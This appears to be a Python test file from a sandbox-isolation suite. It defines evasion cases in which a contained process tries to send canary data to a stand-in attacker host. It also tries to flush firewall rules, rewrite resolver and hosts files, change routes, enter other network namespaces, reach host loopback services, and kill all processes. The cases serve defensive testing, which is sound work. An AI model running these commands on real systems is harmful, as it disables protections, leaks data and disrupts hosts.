# SPDX-License-Identifier: Apache-2.0
"""What a box does to its own side first: other sockets, the gateway's ports, its files, its namespace; and what is near: the host and other boxes."""
from evasion.case import BLIND, FORWARD, NETNS, RULES, Case, off
from internet import places

EVIL4, EVIL6 = places.v4(places.EVIL), places.v6(places.EVIL)
GET = f"curl -sS -m 3 http://{EVIL4}/{{canary}}"
GET6 = f"curl -sS -m 3 'http://[{EVIL6}]/{{canary}}'"

FAMILIES = {"packet": (17, 3, 0x300), "packet-dgram": (17, 2, 0x300), "vsock": (40, 1, 0), "xdp": (44, 3, 0), "raw-icmp": (2, 3, 1), "raw-tcp": (2, 3, 6),
            "raw-any": (2, 3, 255), "raw-six": (10, 3, 58),
            "bluetooth": (31, 3, 1), "can": (29, 3, 1), "tipc": (30, 2, 0), "rds": (21, 5, 0), "nfc": (39, 1, 0), "x25": (9, 5, 0), "appletalk": (5, 2, 0),
            "ipx": (4, 2, 0), "smc": (43, 1, 0), "kcm": (41, 2, 0),
            "netlink-netfilter": (16, 3, 12), "netlink-xfrm": (16, 3, 6), "netlink-generic": (16, 3, 16), "netlink-uevent": (16, 3, 15), "netlink-audit": (16, 3,
                                  9), "alg": (38, 5, 0), "rxrpc": (33, 2, 2)}
SOCKETS = [Case(f"socket-{n}", "E12", "{K} open %d %d %d" % w, "seccomp,inner-userns,caps", judge="open", audit=False) for n, w in FAMILIES.items()]

GATEWAY = [
    *[Case(f"detour-port-{n}", "E15", f"{{K}} tcp {a} 1 'GET /{{canary}} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'", BLIND)
      for n, a in (("evil", EVIL4), ("evil-six", EVIL6))],
    *[Case(f"detour-own-{n}", "E15", f"{{K}} tcp {a} 1 'GET /{{canary}} HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'", NETNS, audit=False)
      for n, a in (("four", "127.0.0.1"), ("six", "::1"), ("other", "127.9.9.9"), ("zero", "0.0.0.0"))],
    *[Case(f"question-own-{n}", "E15", f"{{K}} dns {a} {how} name={{canary}}.evil.test", FORWARD, audit=False)
      for n, a, how in (("four", "127.0.0.1", "udp"), ("six", "::1", "udp"), ("tcp", "127.0.0.1", "tcp"))],
]
SERVICES = [
    *[Case(f"host-loopback-{p}", "E16", f"{{K}} tcp {a} {p} '{{canary}}'", NETNS, audit=False)
      for p, a in ((80, "127.0.0.1"), (443, "127.0.0.1"), (2375, "127.0.0.1"), (5432, "127.0.0.1"), (6379, "127.0.0.1"), (8080, "::1"), (22, "::1"))],
    *[Case(f"host-name-{n}", "E16", f"curl -sS -m 3 http://{n}:8080/{{canary}}", NETNS, audit=False) for n in ("localhost", "ip6-localhost")],
    Case("host-mapped-loopback", "E16", "{K} tcp ::ffff:127.0.0.1 8080 '{canary}'", NETNS, audit=False),
    Case("host-zero", "E16", "{K} tcp 0.0.0.0 8080 '{canary}'", NETNS, audit=False), Case("host-zero-six", "E16", "{K} tcp :: 8080 '{canary}'", NETNS, audit=False),
    Case("host-udp-loopback", "E16", "{K} udp 127.0.0.1 9999 '{canary}'", NETNS, audit=False),
]
# Each tries to change something first; whatever it says, the connection after it must go nowhere.
CHANGES = {
    "resolv": f"echo nameserver {EVIL4} >/etc/resolv.conf; RES_OPTIONS=timeout:1 getent hosts {{canary}}.tunnel.evil.test",
    "resolv-bind": f"echo nameserver {EVIL4} >/tmp/r; mount --bind /tmp/r /etc/resolv.conf; getent hosts {{canary}}.tunnel.evil.test",
    "hosts": f"echo {EVIL4} good.test >>/etc/hosts; {GET}", "localdomain": "LOCALDOMAIN=tunnel.evil.test getent hosts {canary}",
    "hostaliases": "echo 'x {canary}.tunnel.evil.test' >/tmp/a; HOSTALIASES=/tmp/a getent hosts x",
}
RULESET = {
    "nft": f"nft flush ruleset; nft delete table inet pale; {GET}", "iptables": f"iptables -F; iptables -t nat -F; {GET}",
    "route": f"ip route del local default; ip route flush table all; ip route add default dev lo; {GET}",
    "link": f"ip link add veth0 type veth peer name veth1; ip link set lo down; ip link set lo up; {GET}",
    "address": f"ip addr add {EVIL4}/32 dev lo; ip addr flush dev lo; {GET}", "rule": f"ip rule add from all lookup 7; {GET}",
    "tun": f"ip tuntap add tap0 mode tap; {GET}", "sysctl": f"echo 1 >/proc/sys/net/ipv4/ip_forward; echo 0 >/proc/sys/net/ipv4/conf/all/route_localnet; {GET}",
    "conntrack": f"echo 0 >/proc/sys/net/netfilter/nf_conntrack_max; {GET}",
    "unshare": f"unshare -n sh -c '{GET}'; {GET}", "unshare-user": f"unshare -Urn sh -c 'ip link set lo up; {GET}'; {GET}",
    "nsenter": f"nsenter -t 1 -n sh -c '{GET}'; {GET}", "netns": f"ip netns add x; ip netns exec x {GET}; {GET}",
    "netns-host": f"for n in /proc/*/ns/net; do nsenter --net=$n true; done; {GET}", "six": GET6, "preload": f"LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 {GET}",
    "chroot": f"chroot / sh -c '{GET}'; {GET}",
    "setsid": f"setsid {GET}", "background": f"({GET} &) ; sleep 0.3", "io-uring": f"python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(425, 4, 0))'; {GET}",
    "kill-all": f"kill -9 -1; {GET}",
}
CHANGED = [
    *[Case(f"change-{n}", "E11", c, FORWARD if "getent" in c else RULES) for n, c in CHANGES.items()],
    *[Case(f"ruleset-{n}", "E1", c, RULES) for n, c in RULESET.items() if n != "kill-all"],
]
NEIGHBOURS = [
    Case("abstract-socket", "E15", "{K} unix '\\0{abstract}'", off(NETNS, "landlock"), judge="stray", audit=False),
]

CASES = [*SOCKETS, *GATEWAY, *SERVICES, *CHANGED, *NEIGHBOURS]
